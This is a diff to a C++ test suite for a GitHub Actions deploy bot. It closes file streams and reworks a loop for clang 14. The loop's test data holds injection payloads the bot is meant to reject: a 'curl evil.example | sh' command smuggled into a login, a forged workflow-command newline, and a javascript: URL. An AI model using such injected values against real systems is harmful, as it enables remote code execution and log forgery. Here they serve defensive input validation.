@@ -338,8 +338,8 @@ struct World {
     ++runs;
     fs::path run_dir = temp.path() / ("run-" + std::to_string(runs));
     fs::create_directories(run_dir);
-    std::ofstream(run_dir / "output");
-    std::ofstream(run_dir / "summary");
+    std::ofstream(run_dir / "output").close();
+    std::ofstream(run_dir / "summary").close();
     std::ofstream(run_dir / "event.json") << R"({"repository":{"default_branch":"main"}})";
     return {{"GITHUB_ACTIONS", "true"},
             {"INPUT_MODE", mode},
@@ -1187,11 +1187,14 @@ TEST_CASE("a rollback deploy-bot dispatched records who asked as requested_by; t
   const std::string comment = "https://github.example/acme/app/issues/10#issuecomment-4242";
 
   // Untrusted inputs that are not a login or a request URL stop the run before anything happens.
-  for (const auto& [input, value] : std::vector<std::pair<std::string, std::string>>{
+  for (const auto& entry : std::vector<std::pair<std::string, std::string>>{
            {"INPUT_REQUESTED-BY", "alice; curl evil.example | sh"},
            {"INPUT_REQUESTED-BY", "alice\n::warning::forged"},
            {"INPUT_REQUEST-URL", "javascript:alert(1)"},
            {"INPUT_REQUEST-URL", "http://evil.example/acme/app/issues/10"}}) {
+    // References, not a structured binding: clang 14 (clang-tidy) cannot capture one in CAPTURE's lambda.
+    const std::string& input = entry.first;
+    const std::string& value = entry.second;
     CAPTURE(value);
     auto env = world.env("refs/heads/main", "deploy-bot[bot]", "rollback");
     env[input] = value;
